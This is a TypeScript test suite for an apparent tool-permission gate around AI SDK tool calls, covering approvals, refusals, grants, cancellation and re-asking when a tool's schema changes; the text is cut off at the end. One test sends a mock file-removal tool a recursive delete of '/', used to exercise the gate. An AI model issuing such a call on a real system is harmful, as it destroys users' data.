import { createHash } from "node:crypto";
import { createServer, request as httpRequest } from "node:http";
import type { IncomingMessage, ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import {
  asSchema,
  convertToModelMessages,
  generateText,
  jsonSchema,
  readUIMessageStream,
  stepCountIs,
  streamText,
  tool,
  validateUIMessages,
  zodSchema,
} from "ai";
import type { JSONSchema7, ModelMessage, ToolExecutionOptions, ToolSet, UIMessage } from "ai";
import { MockLanguageModelV3 } from "ai/test";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { ApprovalChannel, SyncAskResolver, callPrompt } from "loopctl/ask";
import type { AskResolver, PendingAsk } from "loopctl/ask";
import { AiSdkToolError, gateTools, isToolRefusal } from "loopctl/ai-sdk";
import type { ToolRefusal } from "loopctl/ai-sdk";
import { CancelledError, Gate, LoopManagers, permissionMiddleware } from "loopctl/engine";
import type { GateDecision, Hook, Middleware, ToolDescriptor } from "loopctl/engine";
import { MemoryGrantStore, descriptorFingerprint } from "loopctl/grant";
import { call, text, v3, v3Stream } from "./support/ai-sdk-fixtures.js";
import { flush, until } from "./support/engine-fixtures.js";
import { thrownBy } from "./support/thrown.js";

/** The conversation of a "ship" prompt that goes on from `first` with the user's answer to one approval request. */
function answering(
  first: { readonly response: { readonly messages: readonly ModelMessage[] } },
  approvalId: string,
  approved: boolean,
): ModelMessage[] {
  return [
    { role: "user", content: "ship" },
    ...first.response.messages,
    { role: "tool", content: [{ type: "tool-approval-response", approvalId, approved }] },
  ];
}

/** A gate on `managers` and the records it gives, in order. */
function recordingGate(managers: LoopManagers = new LoopManagers()): { gate: Gate; records: GateDecision[] } {
  const records: GateDecision[] = [];
  return { gate: new Gate(managers.withObserver({ onGate: ({ decision }) => records.push(decision) })), records };
}

function harness(managers: LoopManagers = new LoopManagers()) {
  const executed: unknown[] = [];
  const { gate, records } = recordingGate(managers);
  const tools = {
    deploy: tool({
      description: "Deploy a version",
      title: "Deploy",
      inputSchema: z.object({ env: z.string(), version: z.string() }),
      execute: async (input, { abortSignal }) => {
        executed.push(input);
        expect(abortSignal).toBeInstanceOf(AbortSignal);
        return { deployed: `${input.version} to ${input.env}` };
      },
    }),
    broken: tool({
      description: "Always fails",
      inputSchema: jsonSchema<{ n: number }>({
        type: "object",
        properties: { n: { type: "number" } },
        required: ["n"],
      }),
      execute: async (): Promise<string> => {
        throw new Error("disk on fire");
      },
    }),
    clientSide: tool({
      description: "Answered by the UI",
      inputSchema: z.object({ q: z.string() }),
      outputSchema: z.string(),
    }),
  };
  return { executed, records, gate, tools };
}

const ask: Hook = { preToolUse: (c) => ({ type: "ask", prompt: `Run ${c.name}?` }) };
const neverAsked: AskResolver = {
  resolve: (a) => Promise.reject(new Error(`nobody should have been asked about ${a.tool}`)),
};

describe("gateTools: the gate in front of generateText/streamText tools", () => {
  it("runs an allowed call through the gate with the SDK's toolCallId and the approved input", async () => {
    const { executed, records, gate, tools } = harness();
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("call-7", "deploy", { env: "prod", version: "1.2" })]), v3([text("done")])],
    });
    const result = await generateText({
      model,
      tools: gateTools(tools, gate),
      prompt: "ship",
      stopWhen: stepCountIs(3),
    });
    expect(result.text).toBe("done");
    expect(executed).toEqual([{ env: "prod", version: "1.2" }]);
    expect(records).toMatchObject([{ tool: "deploy", verdict: "allow" }]);
    expect(result.steps[0]!.toolResults).toMatchObject([{ toolCallId: "call-7", output: { deployed: "1.2 to prod" } }]);
    expect(model.doGenerateCalls[1]!.prompt.at(-1)).toEqual({
      role: "tool",
      content: [
        {
          type: "tool-result",
          toolCallId: "call-7",
          toolName: "deploy",
          output: { type: "json", value: { deployed: "1.2 to prod" } },
        },
      ],
    });
  });

  it("a refused call is a result the model reads (the SDK's execution-denied), not a thrown error", async () => {
    const { executed, records, gate, tools } = harness(
      new LoopManagers().withHook({ preToolUse: () => ({ type: "block", reason: "prod is frozen" }) }),
    );
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1.2" })]), v3([text("ok, not deploying")])],
    });
    const result = await generateText({
      model,
      tools: gateTools(tools, gate),
      prompt: "ship",
      stopWhen: stepCountIs(3),
    });
    expect(executed).toEqual([]);
    expect(records).toMatchObject([{ verdict: "deny", ruleId: "hook" }]);
    const output = result.steps[0]!.toolResults[0]!.output as ToolRefusal;
    expect(isToolRefusal(output)).toBe(true);
    expect(output).toEqual({ type: "loopctl.refused", message: "prod is frozen", record: records[0] });
    expect(result.steps[0]!.content.some((part) => part.type === "tool-error")).toBe(false);
    expect(model.doGenerateCalls[1]!.prompt.at(-1)).toEqual({
      role: "tool",
      content: [
        {
          type: "tool-result",
          toolCallId: "c1",
          toolName: "deploy",
          output: { type: "execution-denied", reason: "prod is frozen" },
        },
      ],
    });
  });

  it('refusals: "error-text" sends the refusal as an error result instead', async () => {
    const { gate, tools } = harness(
      new LoopManagers().withHook({ preToolUse: () => ({ type: "block", reason: "no" }) }),
    );
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "a", version: "1" })]), v3([text("x")])],
    });
    await generateText({
      model,
      tools: gateTools(tools, gate, { refusals: "error-text" }),
      prompt: "go",
      stopWhen: stepCountIs(2),
    });
    expect(model.doGenerateCalls[1]!.prompt.at(-1)?.content).toMatchObject([
      { output: { type: "error-text", value: "no" } },
    ]);
  });

  it("a tool that throws still throws (the SDK's tool-error); the gate's record says the call was allowed", async () => {
    const { records, gate, tools } = harness();
    const model = new MockLanguageModelV3({ doGenerate: [v3([call("c1", "broken", { n: 1 })]), v3([text("x")])] });
    const result = await generateText({ model, tools: gateTools(tools, gate), prompt: "go", stopWhen: stepCountIs(2) });
    expect(result.steps[0]!.content).toContainEqual(
      expect.objectContaining({ type: "tool-error", toolCallId: "c1", error: new Error("disk on fire") }),
    );
    expect(records).toMatchObject([{ tool: "broken", verdict: "allow" }]);
  });

  it("keeps the tool's own toModelOutput for what it returns, and leaves tools without execute as they are", async () => {
    const { gate } = harness();
    const tools = {
      shout: tool({
        description: "Shout",
        inputSchema: z.object({ text: z.string() }),
        execute: async ({ text: said }) => said,
        toModelOutput: ({ output }) => ({ type: "text", value: String(output).toUpperCase() }),
      }),
      ask: tool({ description: "Ask the user", inputSchema: z.object({ q: z.string() }), outputSchema: z.string() }),
    };
    const gated = gateTools(tools, gate);
    expect(gated.ask).toBe(tools.ask);
    const model = new MockLanguageModelV3({ doGenerate: [v3([call("c1", "shout", { text: "hi" })]), v3([text("x")])] });
    await generateText({ model, tools: gated, prompt: "go", stopWhen: stepCountIs(2) });
    expect(model.doGenerateCalls[1]!.prompt.at(-1)?.content).toMatchObject([{ output: { type: "text", value: "HI" } }]);
  });

  it("a tool that ran and returned another tool's refusal is read as having run: only a refusal of its own call is its denial", async () => {
    const { records, gate, tools } = harness(
      new LoopManagers().withHook({
        preToolUse: (call) =>
          call.name === "deploy" ? { type: "block", reason: "prod is frozen" } : { type: "allow" },
      }),
    );
    const steps: string[] = [];
    const gated = gateTools(
      {
        deploy: tools.deploy,
        release: tool({
          description: "Tag the release, then deploy it",
          inputSchema: z.object({ version: z.string() }),
          // It ran: it tagged the version, and hands back what the deploy it asked for gave.
          execute: async ({ version }, { toolCallId, messages }): Promise<unknown> => {
            steps.push(`tagged ${version}`);
            return await inner.deploy.execute!(
              { env: "prod", version },
              { toolCallId: `${toolCallId}-deploy`, messages },
            );
          },
        }),
      },
      gate,
    );
    const inner = gated;
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "release", { version: "1.4" })]), v3([text("done")])],
    });
    const result = await generateText({ model, tools: gated, prompt: "ship", stopWhen: stepCountIs(2) });
    expect(steps).toEqual(["tagged 1.4"]);
    expect(records).toMatchObject([
      { tool: "deploy", verdict: "deny" },
      { tool: "release", verdict: "allow" },
    ]);
    const output = result.steps[0]!.toolResults[0]!.output as ToolRefusal;
    expect(isToolRefusal(output)).toBe(true);
    // The release call ran: the model reads its output (the deploy's refusal, as data), not a denial of it.
    const sent = model.doGenerateCalls[1]!.prompt.at(-1)!.content[0] as { output: { type: string; value?: unknown } };
    expect(sent.output).toEqual({ type: "json", value: JSON.parse(JSON.stringify(output)) });
  });

  it("a refusal that went to the browser and back in UI messages still reaches the model as a denial, not through the tool's own toModelOutput", async () => {
    const { executed, gate } = harness(
      new LoopManagers().withHook({ preToolUse: () => ({ type: "block", reason: "prod is frozen" }) }),
    );
    const tools = gateTools(
      {
        deploy: tool({
          description: "Deploy a version",
          inputSchema: z.object({ version: z.string() }),
          execute: async ({ version }) => (executed.push(version), { deployed: version }),
          toModelOutput: ({ output }) => ({ type: "text", value: `Deployed version ${output.deployed}` }),
        }),
      },
      gate,
    );
    const model = new MockLanguageModelV3({
      doStream: [v3Stream([call("c1", "deploy", { version: "1.2" })])],
      doGenerate: [v3([text("not deployed")])],
    });
    const streamed = streamText({ model, tools, prompt: "ship", stopWhen: stepCountIs(1) });
    let message: UIMessage | undefined;
    for await (const update of readUIMessageStream({ stream: streamed.toUIMessageStream() })) message = update;
    // The chat's messages cross to the browser as JSON and come back with the next request.
    const stored = JSON.parse(JSON.stringify(message)) as UIMessage;
    const user: UIMessage = { id: "u1", role: "user", parts: [{ type: "text", text: "ship" }] };
    const messages = await convertToModelMessages([user, stored], { tools });
    await generateText({ model, tools, messages });
    expect(executed).toEqual([]);
    expect(model.doGenerateCalls[0]!.prompt.at(-1)).toEqual({
      role: "tool",
      content: [
        {
          type: "tool-result",
          toolCallId: "c1",
          toolName: "deploy",
          output: { type: "execution-denied", reason: "prod is frozen" },
        },
      ],
    });
  });

  it("a tool's outputSchema accepts the refusals of its calls, so validateUIMessages passes a chat holding one; other outputs are still checked", async () => {
    const guard: Hook = {
      preToolUse: (c) =>
        (c.input as { env?: string }).env === "prod" ? { type: "block", reason: "prod is frozen" } : { type: "allow" },
    };
    const { gate } = harness(new LoopManagers().withHook(guard));
    const tools = gateTools(
      {
        deploy: tool({
          description: "Deploy",
          inputSchema: z.object({ env: z.string() }),
          outputSchema: z.object({ deployed: z.string() }),
          execute: async ({ env }) => ({ deployed: env }),
        }),
      },
      gate,
    );
    const model = new MockLanguageModelV3({
      doStream: [v3Stream([call("c1", "deploy", { env: "staging" }), call("c2", "deploy", { env: "prod" })])],
    });
    // validateUIMessages types its tools loosely (Tool<unknown, unknown>), which no typed tool set matches.
    const validate = (messages: UIMessage[]) => validateUIMessages({ messages, tools: tools as never });
    const streamed = streamText({ model, tools, prompt: "ship", stopWhen: stepCountIs(1) });
    let message: UIMessage | undefined;
    for await (const update of readUIMessageStream({ stream: streamed.toUIMessageStream() })) message = update;
    const stored = JSON.parse(JSON.stringify(message)) as UIMessage;
    const outputs = stored.parts.flatMap((part) => ("output" in part ? [part.output] : []));
    expect(outputs).toMatchObject([{ deployed: "staging" }, { type: "loopctl.refused", message: "prod is frozen" }]);
    await expect(validate([stored])).resolves.toHaveLength(1);
    // Whatever is neither the tool's output nor a refusal of its calls still fails.
    const tampered = JSON.parse(JSON.stringify(stored).replace('"deployed":"staging"', '"deployed":7')) as UIMessage;
    await expect(validate([tampered])).rejects.toThrow(/Type validation failed/);
    const foreign = JSON.parse(JSON.stringify(stored).replace('"tool":"deploy"', '"tool":"other"')) as UIMessage;
    await expect(validate([foreign])).rejects.toThrow(/Type validation failed/);
    // Its JSON Schema is the tool's own.
    expect(await asSchema(tools.deploy.outputSchema).jsonSchema).toEqual(
      await asSchema(z.object({ deployed: z.string() })).jsonSchema,
    );
  });

  it("under streamText: an allowed and a refused call in one step", async () => {
    const guard: Hook = {
      preToolUse: (c) =>
        (c.input as { env?: string }).env === "prod" ? { type: "block", reason: "prod is frozen" } : { type: "allow" },
    };
    const { executed, records, gate, tools } = harness(new LoopManagers().withHook(guard));
    const model = new MockLanguageModelV3({
      doStream: [
        v3Stream([
          call("s1", "deploy", { env: "staging", version: "2" }),
          call("s2", "deploy", { env: "prod", version: "2" }),
        ]),
        v3Stream([text("half done")]),
      ],
    });
    const result = streamText({ model, tools: gateTools(tools, gate), prompt: "ship", stopWhen: stepCountIs(3) });
    const parts: { type: string; toolCallId?: string; output?: unknown }[] = [];
    for await (const part of result.fullStream) parts.push(part);
    expect(await result.text).toBe("half done");
    expect(executed).toEqual([{ env: "staging", version: "2" }]);
    expect(records.map((r) => r.verdict).sort()).toEqual(["allow", "deny"]);
    // Results stream as the calls finish; the prompt after them keeps the calls' order.
    const results = parts.filter((p) => p.type === "tool-result");
    expect(results.map((p) => [p.toolCallId, isToolRefusal(p.output)]).sort()).toEqual([
      ["s1", false],
      ["s2", true],
    ]);
    expect(parts.some((p) => p.type === "tool-error")).toBe(false);
    expect(model.doStreamCalls[1]!.prompt.at(-1)?.content).toEqual([
      {
        type: "tool-result",
        toolCallId: "s1",
        toolName: "deploy",
        output: { type: "json", value: { deployed: "2 to staging" } },
      },
      {
        type: "tool-result",
        toolCallId: "s2",
        toolName: "deploy",
        output: { type: "execution-denied", reason: "prod is frozen" },
      },
    ]);
  });

  it('parks, is approved "always this tool", and the next generateText is decided by the grant without asking', async () => {
    const store = new MemoryGrantStore();
    const [channel, approver] = ApprovalChannel.pair(4);
    const first = harness(new LoopManagers().withHook(ask).withAskResolver(channel).withGrantStore(store));
    const script = () => [v3([call("c1", "deploy", { env: "prod", version: "1.2" })]), v3([text("done")])];
    const running = generateText({
      model: new MockLanguageModelV3({ doGenerate: script() }),
      tools: gateTools(first.tools, first.gate),
      prompt: "ship",
      stopWhen: stepCountIs(3),
    });
    const parked = (await approver.next()) as PendingAsk;
    expect(parked).toMatchObject({ tool: "deploy", callId: "c1", prompt: "Run deploy?" });
    expect(first.executed).toEqual([]);
    expect(approver.resolve(parked.id, { type: "approve", remember: "this_tool" })).toBe(true);
    expect((await running).text).toBe("done");
    expect(first.records.map((r) => r.verdict)).toEqual(["ask_allowed"]);
    expect((await store.load()).map((g) => [g.tool, g.verdict, g.scope.type])).toEqual([
      ["deploy", "allow", "this_tool"],
    ]);

    // A new process, a new gate over the same store: the grant decides, nobody is asked.
    const next = harness(new LoopManagers().withHook(ask).withAskResolver(neverAsked).withGrantStore(store));
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c9", "deploy", { env: "prod", version: "1.3" })]), v3([text("done again")])],
    });
    const again = await generateText({
      model,
      tools: gateTools(next.tools, next.gate),
      prompt: "ship 1.3",
      stopWhen: stepCountIs(3),
    });
    expect(again.text).toBe("done again");
    expect(next.executed).toEqual([{ env: "prod", version: "1.3" }]);
    expect(next.records).toMatchObject([{ verdict: "allow", ruleId: "grant", ruleSource: "context" }]);
  });

  it("a cancel while parked aborts the step: generateText rejects, the call's record is cancelled, the tool never runs", async () => {
    const [channel, approver] = ApprovalChannel.pair(4);
    const { executed, records, gate, tools } = harness(new LoopManagers().withHook(ask).withAskResolver(channel));
    const controller = new AbortController();
    const model = new MockLanguageModelV3({
      doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1" })]), v3([text("never")])],
    });
    const running = generateText({
      model,
      tools: gateTools(tools, gate),
      prompt: "go",
      abortSignal: controller.signal,
      stopWhen: stepCountIs(3),
    });
    await approver.next();
    controller.abort(new Error("user left"));
    await expect(running).rejects.toThrow("user left");
    await until(() => records.length === 1);
    expect(records).toMatchObject([{ verdict: "cancelled", reason: "cancelled while awaiting approval" }]);
    expect(executed).toEqual([]);
    expect(model.doGenerateCalls).toHaveLength(1);
  });

  it("the SDK's timeout counts the wait for an answer: an ask that outlasts stepMs (or streamText's chunkMs) is cancelled, with one record, and ends", async () => {
    for (const [kind, timeout] of [
      ["generateText", { stepMs: 50 }],
      ["streamText", { chunkMs: 50 }],
    ] as const) {
      const [channel, approver] = ApprovalChannel.pair(4);
      const { executed, records, gate, tools } = harness(new LoopManagers().withHook(ask).withAskResolver(channel));
      const content = [call("c1", "deploy", { env: "prod", version: "1" })];
      const common = { tools: gateTools(tools, gate), prompt: "go", stopWhen: stepCountIs(3), timeout };
      const ended =
        kind === "generateText"
          ? generateText({ ...common, model: new MockLanguageModelV3({ doGenerate: [v3(content)] }) }).then(
              () => "resolved",
              (error: unknown) => String(error),
            )
          : (async () => {
              const result = streamText({
                ...common,
                model: new MockLanguageModelV3({ doStream: [v3Stream(content)] }),
              });
              const parts: string[] = [];
              for await (const part of result.fullStream) parts.push(part.type);
              return parts.at(-1);
            })();
      const parked = (await approver.next()) as PendingAsk;
      expect(await ended, kind).toMatch(kind === "generateText" ? /Step timeout of 50ms exceeded/ : /^abort$/);
      await until(() => records.length === 1);
      expect(records, kind).toMatchObject([{ verdict: "cancelled" }]);
      expect(await approver.ended(parked.id), kind).toMatchObject({ type: "withdrawn" });
      expect(approver.resolve(parked.id, { type: "approve" }), kind).toBe(false);
      expect(executed, kind).toEqual([]);
    }
  });

  it("a call the SDK runs on a chat's approval, before its first step, is outside stepMs and chunkMs: only totalMs (or abortSignal) cancels its ask", async () => {
    for (const kind of ["generateText", "streamText"] as const) {
      const [channel, approver] = ApprovalChannel.pair(4);
      const { records, gate } = recordingGate(new LoopManagers().withHook(ask).withAskResolver(channel));
      const executed: unknown[] = [];
      const deploy = tool({
        inputSchema: z.object({ env: z.string() }),
        needsApproval: true,
        execute: async (input) => (executed.push(input), "deployed"),
      });
      const messages: ModelMessage[] = [
        { role: "user", content: "ship" },
        {
          role: "assistant",
          content: [
            { type: "tool-call", toolCallId: "c1", toolName: "deploy", input: { env: "prod" } },
            { type: "tool-approval-request", approvalId: "a1", toolCallId: "c1" },
          ],
        },
        { role: "tool", content: [{ type: "tool-approval-response", approvalId: "a1", approved: true }] },
      ];
      const common = { tools: gateTools({ deploy }, gate), messages, stopWhen: stepCountIs(2) };
      const started = Date.now();
      const ended =
        kind === "generateText"
          ? generateText({
              ...common,
              model: new MockLanguageModelV3({ doGenerate: [v3([text("done")])] }),
              timeout: { stepMs: 50, totalMs: 400 },
            }).catch(() => undefined)
          : (async () => {
              const result = streamText({
                ...common,
                model: new MockLanguageModelV3({ doStream: [v3Stream([text("done")])] }),
                timeout: { chunkMs: 50, totalMs: 400 },
              });
              for await (const part of result.fullStream) void part;
            })();
      const parked = (await approver.next()) as PendingAsk;
      await ended;
      await until(() => records.length === 1);
      expect(records, kind).toMatchObject([{ verdict: "cancelled" }]);
      // Cancelled by totalMs, not by stepMs or chunkMs (50 ms).
      expect(Date.now() - started, kind).toBeGreaterThanOrEqual(300);
      expect(await approver.ended(parked.id), kind).toMatchObject({ type: "withdrawn" });
      expect(executed, kind).toEqual([]);
    }
  });

  it("a cancel while parked on generateText's last step: it resolves, the call a tool-error carrying the CancelledError; the tool never runs", async () => {
    const [channel, approver] = ApprovalChannel.pair(4);
    const { executed, records, gate, tools } = harness(new LoopManagers().withHook(ask).withAskResolver(channel));
    const controller = new AbortController();
    const model = new MockLanguageModelV3({ doGenerate: [v3([call("c1", "deploy", { env: "prod", version: "1" })])] });
    // One step (the SDK's default stopWhen): no next step checks the signal.
    const running = generateText({
      model,
      tools: gateTools(tools, gate),
      prompt: "go",
      abortSignal: controller.signal,
    });
    const parked = (await approver.next()) as PendingAsk;
    controller.abort(new Error("user left"));
    const result = await running;
    expect(result.content).toContainEqual(
      expect.objectContaining({ type: "tool-error", toolCallId: "c1", error: expect.any(CancelledError) }),
    );
    expect(records).toMatchObject([{ verdict: "cancelled", reason: "cancelled while awaiting approval" }]);
    expect(await approver.ended(parked.id)).toEqual({ type: "withdrawn", reason: "unknown" });
    expect(executed).toEqual([]);
  });

  it("gated execute rejects with CancelledError when the SDK's abortSignal fires", async () => {
    const [channel, approver] = ApprovalChannel.pair(1);
    const { gate, tools } = harness(new LoopManagers().withHook(ask).withAskResolver(channel));
    const controller = new AbortController();
    const execute = gateTools(tools, gate).deploy.execute!;
    const pending = Promise.resolve(
      execute({ env: "a", version: "1" }, { toolCallId: "c1", messages: [], abortSignal: controller.signal }),
    );
    await approver.next();
    controller.abort();
    await expect(pending).rejects.toBeInstanceOf(CancelledError);
  });

  it("the ask and its grant are pinned to the descriptor the model saw (title included): a changed tool is asked about again", async () => {
    const store = new MemoryGrantStore();
    const asks: PendingAsk[] = [];
    const resolver = new SyncAskResolver((a) => (asks.push(a), { type: "approve", remember: "this_tool" }));
    const managers = new LoopManagers().withHook(ask).withAskResolver(resolver).withGrantStore(store);
    const run = async (tools: ToolSet, id: string): Promise<void> => {
      const model = new MockLanguageModelV3({
        doGenerate: [v3([call(id, "deploy", { env: "a", version: "1" })]), v3([text("x")])],
      });
      await generateText({
        model,
        tools: gateTools(tools, new Gate(managers)),
        prompt: "go",
        stopWhen: stepCountIs(2),
      });
    };
    const { tools } = harness();
    await run(tools, "c1");
    await run(tools, "c2");
    expect(asks).toHaveLength(1);
    await run(
      { ...tools, deploy: tool({ ...(tools.deploy as object), title: "Deploy to production" } as never) },
      "c3",
    );
    expect(asks).toHaveLength(2);
    expect(asks[1]!.prompt).toContain("changed since this was last answered");
  });

  it("a tool object changed in place (description, title, input schema) is described again: its old grant no longer decides", async () => {
    const store = new MemoryGrantStore();
    const asks: PendingAsk[] = [];
    const resolver = new SyncAskResolver((a) => (asks.push(a), { type: "approve", remember: "this_tool" }));
    const gate = new Gate(new LoopManagers().withHook(ask).withAskResolver(resolver).withGrantStore(store));
    const { tools } = harness();
    const deploy = tools.deploy as { description?: string; title?: string; inputSchema: unknown };
    const run = async (id: string): Promise<void> => {
      const model = new MockLanguageModelV3({
        doGenerate: [v3([call(id, "deploy", { env: "a", version: "1" })]), v3([text("x")])],
      });
      await generateText({ model, tools: gateTools(tools, gate), prompt: "go", stopWhen: stepCountIs(2) });
    };
    await run("c1");
    await run("c2");
    expect(asks).toHaveLength(1);
    deploy.description = "Deploy a version, and delete the old one";
    await run("c3");
    expect(asks).toHaveLength(2);
    expect(asks[1]!.prompt).toContain("changed since this was last answered");
    await run("c4");
    expect(asks).toHaveLength(2);
    deploy.title = "Deploy anywhere";
    await run("c5");
    expect(asks).toHaveLength(3);
    deploy.inputSchema = z.object({ env: z.string(), version: z.string(), force: z.boolean().optional() });
    await run("c6");
    expect(asks).toHaveLength(4);
    await run("c7");
    expect(asks).toHaveLength(4);
  });

  it("a JSON Schema edited in place (jsonSchema()'s object, or tool.inputSchema.jsonSchema) is described again: the ask, the validation and the grant follow what the model is shown", async () => {
    const store = new MemoryGrantStore();
    /** The descriptor each call's hook saw: the one its ask shows, and its grant is pinned to. */
    const seen: ToolDescriptor[] = [];
    const asking: Hook = {
      preToolUse: (c, { descriptor }) => (seen.push(descriptor), { type: "ask", prompt: `Run ${c.name}?` }),
    };
    const asks: PendingAsk[] = [];
    const resolver = new SyncAskResolver((a) => (asks.push(a), { type: "approve", remember: "this_tool" }));
    const { gate, records } = recordingGate(
      new LoopManagers().withHook(asking).withAskResolver(resolver).withGrantStore(store),
    );
    const executed: unknown[] = [];
    const schema: JSONSchema7 & { properties: NonNullable<JSONSchema7["properties"]> } = {
      type: "object",
      properties: { path: { type: "string" } },
      required: ["path"],
    };
    const tools = {
      remove: tool({
        description: "Remove a file",
        inputSchema: jsonSchema<Record<string, unknown>>(schema),
        execute: async (input) => (executed.push(input), "removed"),
      }),
    };
    /** Runs one call; gives the input schema the model was shown, as the SDK sent it. */
    const run = async (id: string, input: unknown): Promise<unknown> => {
      let shown = "";
      const model = new MockLanguageModelV3({
        doGenerate: async (options) => {
          const sent = options.tools?.find((t) => t.name === "remove");
          shown = JSON.stringify(sent?.type === "function" ? sent.inputSchema : undefined);
          return v3([call(id, "remove", input)]);
        },
      });
      await generateText({ model, tools: gateTools(tools, gate), prompt: "go", stopWhen: stepCountIs(1) });
      return JSON.parse(shown);
    };
    const pins = async (): Promise<(string | null)[]> => (await store.load()).map((g) => g.pinnedDescriptor);
    await run("c1", { path: "a" });
    await run("c2", { path: "b" });
    expect(asks).toHaveLength(1);
    expect(await pins()).toEqual([descriptorFingerprint(seen[0]!)]);

    // The object handed to jsonSchema() gains a property: the model is shown it at once.
    schema.properties["recursive"] = { type: "boolean", description: "Remove a whole directory tree" };
    const shown = await run("c3", { path: "/", recursive: true });
    expect(shown).toHaveProperty("properties.recursive");
    // The grant given for the old schema does not decide the call: it is asked about, showing what the model saw.
    expect(asks).toHaveLength(2);
    expect(asks[1]!.prompt).toContain("changed since this was last answered");
    expect(seen.at(-1)!.inputSchema).toEqual(shown);
    expect(records).toHaveLength(3);
    expect(records.at(-1)).toMatchObject({ tool: "remove", verdict: "ask_allowed" });
    expect(await pins()).toEqual([descriptorFingerprint(seen.at(-1)!)]);
    await run("c4", { path: "c", recursive: false });
    expect(asks).toHaveLength(2);

    // An edit through the tool the SDK reads (its schema's own JSON Schema object): validated as the model is told.
    const own = (await asSchema(tools.remove.inputSchema).jsonSchema) as { additionalProperties?: boolean };
    own.additionalProperties = false;
    expect(await run("c5", { path: "d", force: true })).toMatchObject({ additionalProperties: false });
    expect(records.at(-1)).toMatchObject({ tool: "remove", verdict: "deny", ruleId: "schema" });
    await run("c6", { path: "e" });
    expect(asks).toHaveLength(3);
    expect(seen.at(-1)!.inputSchema).toMatchObject({ additionalProperties: false });
    expect(executed).toEqual([
      { path: "a" },
      { path: "b" },
      { path: "/", recursive: true },
      { path: "c", recursive: false },
      { path: "e" },
    ]);
  });

  it("a JSON Schema that comes as a promise is compared as it resolves; one edited into no JSON at all refuses the call, and the tool never runs", async () => {
    const asks: PendingAsk[] = [];
    const resolver = new SyncAskResolver((a) => (asks.push(a), { type: "approve", remember: "this_tool" }));
    const gate = new Gate(
      new LoopManagers().withHook(ask).withAskResolver(resolver).withGrantStore(new MemoryGrantStore()),
    );
    const executed: unknown[] = [];
    const schema: JSONSchema7 & { properties: NonNullable<JSONSchema7["properties"]> } = {
      type: "object",
      properties: { path: { type: "string" } },
    };
    const { remove } = gateTools(
      {
        remove: tool({
          description: "Remove a file",
          inputSchema: jsonSchema<Record<string, unknown>>(() => Promise.resolve(schema)),
          execute: async (input) => (executed.push(input), "removed"),
        }),
      },
      gate,
    );
    const run = (id: string, input: Record<string, unknown>): Promise<unknown> =>
      Promise.resolve(remove.execute!(input, { toolCallId: id, messages: [] }));
    await run("c1", { path: "a" });
    await run("c2", { path: "b" });
    expect(asks).toHaveLength(1);
    schema.properties["recursive"] = { type: "boolean" };
    await run("c3", { path: "/", recursive: true });
    expect(asks).toHaveLength(2);
    // A schema the SDK could not send either (it holds itself): refused, never run on the old descriptor's grant.
    schema.properties["self"] = schema;
    await expect(run("c4", { path: "c" })).rejects.toBeInstanceOf(AiSdkToolError);
    expect(asks).toHaveLength(2);
    expect(executed).toEqual([{ path: "a" }, { path: "b" }, { path: "/", recursive: true }]);
  });

  it("the descriptor is read from the gated tool the model is shown: a set made before the tool changed in place shows and pins the old one", async () => {
    const store = new MemoryGrantStore();
    const asks: PendingAsk[] = [];
    const resolver = new SyncAskResolver((a) => (asks.push(a), { type: "approve", remember: "this_tool" }));
    const gate = new Gate(new LoopManagers().withHook(ask).withAskResolver(resolver).withGrantStore(store));
    const { tools } = harness();
    /** Runs one call, and gives the description of deploy the model was shown. */
    const run = async (set: ToolSet, id: string): Promise<string | undefined> => {
      const model = new MockLanguageModelV3({
        doGenerate: [v3([call(id, "deploy", { env: "a", version: "1" })]), v3([text("x")])],
      });
      await generateText({ model, tools: set, prompt: "go", stopWhen: stepCountIs(2) });
      const shown = model.doGenerateCalls[0]!.tools?.find((t) => t.name === "deploy");
      return shown?.type === "function" ? shown.description : undefined;
    };
    const before = gateTools(tools, gate);
    (tools.deploy as { description?: string }).description = "Deploy a version, and delete the old one";
    expect(await run(before, "c1")).toBe("Deploy a version");
    expect(asks).toHaveLength(1);
    // The answer was given while the model was shown the old description: a set showing the new one asks again.
    await run(gateTools(tools, gate), "c2");
    expect(asks).toHaveLength(2);
    expect(asks[1]!.prompt).toContain("changed since this was last answered");
    // A gated tool changed in place is shown to the model, and described, as it is at the call.
    const after = gateTools(tools, gate);
    (after.deploy as { description?: string }).description = "Deploy anything";
    expect(await run(after, "c3")).toBe("Deploy anything");
    expect(asks).toHaveLength(3);
  });

  it("typed errors: no Gate, no tool set, a call without a toolCallId, a schema without JSON Schema form", async () => {
    const { gate, tools } = harness();
    expect(() => gateTools(tools, {} as never)).toThrow(AiSdkToolError);
    expect(() => gateTools(null as never, gate)).toThrow(AiSdkToolError);
    expect(() => gateTools(tools, gate, { refusals: "hide" as never })).toThrow(AiSdkToolError);
    expect(() => gateTools(tools, gate, { runId: "run-1" })).toThrow(/runId must be a UUID/);
    const execute = gateTools(tools, gate).deploy.execute!;
    await expect(Promise.resolve(execute({ env: "a", version: "1" }, {} as never))).rejects.toMatchObject({
      code: "AI_SDK_TOOL",
      tool: "deploy",
    });
    const odd = gateTools(
      {
        odd: tool({
          description: "",
          inputSchema: { "~standard": { vendor: "odd", version: 1, validate: () => ({ value: {} }) } } as never,
          execute: async () => "ran",
        }),
      },
      gate,
    );
    await expect(Promise.resolve(odd.odd.execute!({}, { toolCallId: "c1", messages: [] }))).rejects.toMatchObject({
      code: "AI_SDK_TOOL",
      tool: "odd",
    });
  });

  it("bad input is a typed error naming what is at fault: a tool that is not an object, an execute or toModelOutput that is not a function, options or ids of the wrong kind, an array", () => {
    const { gate, tools } = harness();
    const fault = (run: () => unknown): unknown => {
      try {
        run();
      } catch (error) {
        return error;
      }
      return "no error";
    };
    for (const [bad, tool, message] of [
      [{ read: null }, "read", /not an AI SDK tool/],
      [{ read: "read a file" }, "read", /not an AI SDK tool/],
      [{ read: { description: "Read", execute: "run" } }, "read", /execute must be a function/],
      [
        { read: { description: "Read", execute: async () => "x", toModelOutput: {} } },
        "read",
        /toModelOutput must be a function/,
      ],
    ] as const) {
      const error = fault(() => gateTools(bad as never, gate));
